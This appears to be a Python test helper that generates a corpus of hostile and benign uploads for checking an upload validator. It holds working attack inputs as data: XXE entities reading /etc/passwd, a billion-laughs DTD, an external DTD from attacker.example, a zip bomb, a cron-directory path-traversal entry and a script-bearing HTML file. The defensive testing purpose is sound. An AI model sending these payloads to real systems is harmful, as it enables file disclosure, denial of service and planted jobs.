"""A hostile upload corpus, made by code (no binary fixtures): every `bad-*` file must be refused
with a clear message at every upload point, every `ok-*` file accepted where its kind is declared.

    files = corpus()                         # {name: bytes}
    files = corpus(max_bytes=5 * 1024**2)    # bad-too-big sized for that point's limit
    write_corpus(folder)                     # the same files on disk, for management commands

`ok-real.docx` is made by python-docx and `ok-real.xlsx` by openpyxl; the hostile Office files
start from those real documents and change one part, as an attacker would.
"""

import functools
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

from core.uploads import DEFAULT_MAX_BYTES


def pdf(*, pages=1, padding=0):
    """Return a small PDF that pypdf opens (about 300 bytes), optionally padded with a PDF comment."""
    kids = " ".join(f"{3 + i} 0 R" for i in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode()]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * pages
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    if padding:
        out.write(b"%" + b"0" * (padding - 2) + b"\n")
    return out.getvalue()


MINIMAL_PDF = pdf()


def docx_bytes(paragraphs=("Informe de la reunión", "Acuerdos de la Red")):
    """A real Word document (python-docx)."""
    import docx

    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(rows=(("código", "título"), ("1", "Protección"))):
    """A real workbook (openpyxl)."""
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def png_bytes():
    """A 1×1 PNG."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def replace_parts(document, parts, extra=()):
    """Return the zip `document` with the parts named in `parts` replaced, and `extra` (name, bytes) added."""
    source = zipfile.ZipFile(io.BytesIO(document))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for entry in source.infolist():
            out.writestr(entry.filename, parts.get(entry.filename, source.read(entry.filename)))
        for name, data in extra:
            out.writestr(name, data)
    return buffer.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
XXE = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<!DOCTYPE w:document [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b"]>"
)


def _word(doctype, text):
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + doctype
        + f"<w:document {W}><w:body><w:p><w:r><w:t>".encode()
        + text
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )


def xxe_xlsx():
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
    )
    return replace_parts(xlsx_bytes(), {"xl/worksheets/sheet1.xml": sheet})


def xxe_odt():
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE office:document-content '
        b'[<!ENTITY xxe SYSTEM "file:///etc/passwd">]><office:document-content '
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
        b"<text:p>&xxe;</text:p></office:text></office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        archive.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
    return buffer.getvalue()


# What each bad file must be refused for (a part of the English message), when its kind is accepted.
BAD = {
    "bad-xxe.docx": "DTD, entities or external references",
    "bad-billion-laughs.docx": "DTD, entities or external references",
    "bad-external-dtd.docx": "DTD, entities or external references",
    "bad-xxe.xlsx": "DTD, entities or external references",
    "bad-xxe.odt": "DTD, entities or external references",
    "bad-zip-bomb.docx": "compression bomb",
    "bad-not-a-zip.docx": "not a valid DOCX",
    "bad-path-traversal.docx": "unsafe path",
    "bad-exe-renamed.pdf": "program",
    "bad-html-as.pdf": "not a valid PDF",
    "bad-damaged.pdf": "damaged",
    "bad-empty.pdf": "empty",
    "bad-fake.png": "not a valid PNG",
    "bad-too-big": "larger than",
}


@functools.cache
def _fixed():
    real_docx = docx_bytes()
    return {
        "bad-xxe.docx": replace_parts(real_docx, {"word/document.xml": _word(XXE, b"&xxe;")}),
        "bad-billion-laughs.docx": replace_parts(real_docx, {"word/document.xml": _word(LAUGHS, b"&lol9;")}),
        "bad-external-dtd.docx": replace_parts(
            real_docx,
            {"word/document.xml": _word(b'<!DOCTYPE w:document SYSTEM "http://attacker.example/x.dtd">', b"hola")},
        ),
        "bad-xxe.xlsx": xxe_xlsx(),
        "bad-xxe.odt": xxe_odt(),
        # 60 MB of zeros deflate to about 60 KB: a thousandfold.
        "bad-zip-bomb.docx": replace_parts(real_docx, {}, extra=[("word/media/zeros.bin", b"\0" * 60_000_000)]),
        "bad-not-a-zip.docx": b"This is plain text with a .docx name.\n",
        "bad-path-traversal.docx": replace_parts(real_docx, {}, extra=[("../../../etc/cron.d/evil", b"* * * * * x")]),
        "bad-exe-renamed.pdf": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program cannot be run",
        "bad-html-as.pdf": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n",
        "bad-damaged.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 2,
        "bad-empty.pdf": b"",
        "bad-fake.png": b"GIF89a not a png at all",
        "ok-minimal.pdf": MINIMAL_PDF,
        "ok-real.docx": real_docx,
        "ok-real.xlsx": xlsx_bytes(),
        "ok-plain.txt": "Nota de la reunión: niñez migrante.\n".encode(),
        "ok.csv": "código;título\n1;Protección de la niñez\n".encode(),
        "ok.png": png_bytes(),
    }


def too_big(kinds, max_bytes):
    """Return (name, bytes) of an otherwise acceptable file one byte over `max_bytes`, of a declared kind."""
    for kind in ("pdf", "txt", "csv", "docx", "xlsx"):
        if kind in kinds:
            break
    else:
        kind = sorted(kinds)[0]
    if kind == "pdf":
        data = pdf(padding=max_bytes + 1 - len(MINIMAL_PDF))
    elif kind in ("docx", "xlsx"):
        real = docx_bytes() if kind == "docx" else xlsx_bytes()
        data = replace_parts(real, {}, extra=[("word/media/noise.bin", os.urandom(max_bytes + 1 - len(real)))])
    else:
        data = b"a" * (max_bytes + 1)
    return f"bad-too-big.{kind}", data


def corpus(kinds=None, max_bytes=DEFAULT_MAX_BYTES, ok=None):
    """Return {name: bytes}: the whole corpus, `bad-too-big` sized for `max_bytes` in one of `kinds`.

    `ok` replaces the content of ok files for points that read them ({"ok-real.docx": report bytes}).
    """
    files = dict(_fixed())
    files.update(ok or {})
    name, data = too_big(kinds or {"pdf"}, max_bytes)
    files[name] = data
    return files


def write_corpus(folder, **kwargs):
    """Write the corpus into `folder`; return {name: path}."""
    folder = Path(folder)
    paths = {}
    for name, data in corpus(**kwargs).items():
        paths[name] = folder / name
        paths[name].write_bytes(data)
    return paths


def expected_refusal(name, kinds, undeclared="not accepted here"):
    """The part of the English message a corpus file is refused with at a point accepting `kinds`."""
    kind = name.rsplit(".", 1)[-1]
    if name == "bad-empty.pdf":
        return BAD[name]  # an empty file is refused as empty first, whatever its kind
    if kind not in kinds:
        return undeclared
    return BAD["bad-too-big" if name.startswith("bad-too-big") else name]
